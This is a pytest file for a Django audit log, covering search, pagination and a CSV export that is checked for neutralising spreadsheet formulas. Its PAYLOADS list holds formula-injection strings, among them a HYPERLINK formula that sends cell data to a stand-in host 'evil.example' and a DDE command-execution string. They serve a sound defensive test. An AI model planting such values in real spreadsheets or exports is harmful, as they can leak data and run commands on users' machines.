"""The auditor's search and CSV export over the log."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from apps.audit.models import AuditEvent

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&B3,"点击查看附件")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def log(db):
    now = timezone.now()
    rows = [
        AuditEvent(action="login_success", username="zhangsan", ip="10.0.0.1", at=now - dt.timedelta(days=3)),
        AuditEvent(
            action="login_failure",
            username="lisi",
            ip="10.0.0.2",
            outcome="failure",
            at=now - dt.timedelta(days=2),
        ),
        AuditEvent(
            action="download",
            username="zhangsan",
            target="/reports/1/download/",
            at=now - dt.timedelta(days=1),
        ),
    ]
    rows += [
        AuditEvent(action="permission_denied", username=p, target=p, outcome="denied", at=now)
        for p in PAYLOADS
    ]
    for row in rows:
        row.save()
    return rows


def listed(response) -> list[str]:
    return [e.username for e in response.context["page"]]


def test_search_by_user_action_and_dates(auditor, log):
    url = reverse("audit:events")
    assert listed(auditor.get(url, {"username": "zhangsan"})) == ["zhangsan", "zhangsan"]
    assert listed(auditor.get(url, {"action": "login_failure"})) == ["lisi"]
    day = (timezone.localdate() - dt.timedelta(days=2)).isoformat()
    assert listed(auditor.get(url, {"at_min": day, "at_max": day})) == ["lisi"]
    html = auditor.get(url, {"action": "login_failure"}).content.decode()
    assert "登录失败" in html and "10.0.0.2" in html


def test_list_is_paginated_with_a_fixed_number_of_queries(auditor, log, django_assert_max_num_queries):
    for n in range(120):
        AuditEvent(action="logout", username=f"u{n}").save()
    url = reverse("audit:events")
    auditor.get(url)
    with django_assert_max_num_queries(13):
        first = auditor.get(url)
    assert len(first.context["page"]) == 50
    assert first.context["page"].paginator.num_pages == 3
    with django_assert_max_num_queries(13):
        assert len(auditor.get(url, {"page": 3, "action": "logout"}).context["page"]) == 20


def test_csv_export_neutralises_formulas_and_is_itself_audited(auditor, log):
    response = auditor.get(reverse("audit:export"), {"action": "permission_denied"})
    assert response["Content-Disposition"].startswith("attachment")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    assert rows[0][:4] == ["时间", "用户名", "IP 地址", "事件"]
    cells = [cell for row in rows[1:] for cell in (row[1], row[5])]
    assert len(cells) == 2 * len(PAYLOADS)
    assert all(cell.startswith("'") for cell in cells), cells
    assert sorted(cell[1:] for cell in cells[::2]) == sorted(PAYLOADS)
    [export] = AuditEvent.objects.filter(action="export")
    assert export.username == "shenji" and export.detail["rows"] == len(PAYLOADS)
    assert not AuditEvent.objects.filter(action="download").exclude(username="zhangsan").exists()


def test_bad_filter_values_do_not_break_the_page(auditor, log):
    response = auditor.get(reverse("audit:events"), {"at_min": "not-a-date", "action": "nope", "page": "x"})
    assert response.status_code == 200
